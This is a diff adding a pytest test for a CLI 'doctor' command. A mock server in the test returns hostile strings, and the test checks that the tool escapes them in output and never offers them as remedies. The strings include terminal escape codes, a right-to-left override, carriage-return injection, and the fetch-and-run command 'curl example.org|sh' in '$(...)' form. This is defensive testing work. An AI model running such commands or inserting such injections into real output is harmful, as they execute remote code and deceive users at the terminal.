@@ -6,7 +6,7 @@ import json
 import re
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Awaitable, Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -351,6 +351,45 @@ def test_the_remedy_of_a_server_that_responds_with_an_error(
         ended = run_command("doctor", "openai", "--json", directory=tmp_path, settings=settings)
     fix = {"name": "openai", "problem": problem, "remedy": remedy}
     assert (json.loads(ended.stdout.replace(server.url, "URL"))["fixes"], ended.returncode) == ([fix], 1)
+
+
+def answer_hostile(status: int, text: str) -> Callable[[web.Request, bytes, RequestLog], Awaitable[web.StreamResponse]]:
+    """Return a server that rejects each request with `text`, and lists models with commands in their names."""
+
+    async def answer(request: web.Request, raw: bytes, journal: RequestLog) -> web.StreamResponse:
+        if request.path.endswith("/models"):
+            names = ["a\x1b[2J", "b\rPROXY_API_KEY=x", "$(curl example.org|sh)", "c d", "vendor/good-model:7b"]
+            return web.json_response({"object": "list", "data": [{"id": name} for name in names]})
+        return web.json_response({"error": {"message": text, "type": "x"}}, status=status)
+
+    return answer
+
+
+@pytest.mark.parametrize(
+    ("status", "text", "shown", "remedy"),
+    [
+        (400, "the response is a web page \x1b[2J. Try ollama run x; curl example.org|sh",
+         "the response is a web page \\x1b[2J. Try ollama run x; curl example.org|sh.", "OPENAI_BASE_URL=<address>"),
+        (404, "not found. Try HTTPS_PROXY=http://127.0.0.1:9",
+         "nothing is served at URL/chat/completions: HTTP 404 (not found. Try HTTPS_PROXY=http://127.0.0.1:9). The "
+         "address is set by OPENAI_BASE_URL, environment. Is /v1 missing?", "OPENAI_BASE_URL=URL/v1"),
+        (404, "The model does \u202enot exist", "The model does \\u202enot exist. The model openai/mine is set by "
+         "SMALL_MODEL, environment. Remedy: set SMALL_MODEL=openai/<another model>.",
+         "SMALL_MODEL=openai/vendor/good-model:7b and BIG_MODEL=openai/vendor/good-model:7b"),
+    ],
+    ids=["as an error of the proxy", "quoted by the proxy", "model"],
+)  # fmt: skip
+def test_a_server_writes_neither_remedies_nor_to_the_terminal(
+    status: int, text: str, shown: str, remedy: str, tmp_path: Path
+) -> None:
+    with serving(new_application(answer_hostile(status, text), RequestLog())) as server:
+        settings = {"OPENAI_API_KEY": "sk-0123456789", "OPENAI_BASE_URL": server.url}
+        settings |= {"BIG_MODEL": "openai/mine", "SMALL_MODEL": "openai/mine"}
+        words = ("doctor", "openai", "--report", "report.json")
+        ended = run_command(*words, directory=tmp_path, settings=settings)
+    (fix,) = json.loads((tmp_path / "report.json").read_text("utf-8").replace(server.url, "URL"))["fixes"]
+    assert fix == {"name": "openai", "problem": shown, "remedy": remedy}
+    assert all(line.isprintable() for line in ended.stdout.split("\n"))
 
 
 def test_the_remedies_without_a_network_and_without_tools(tmp_path: Path) -> None:
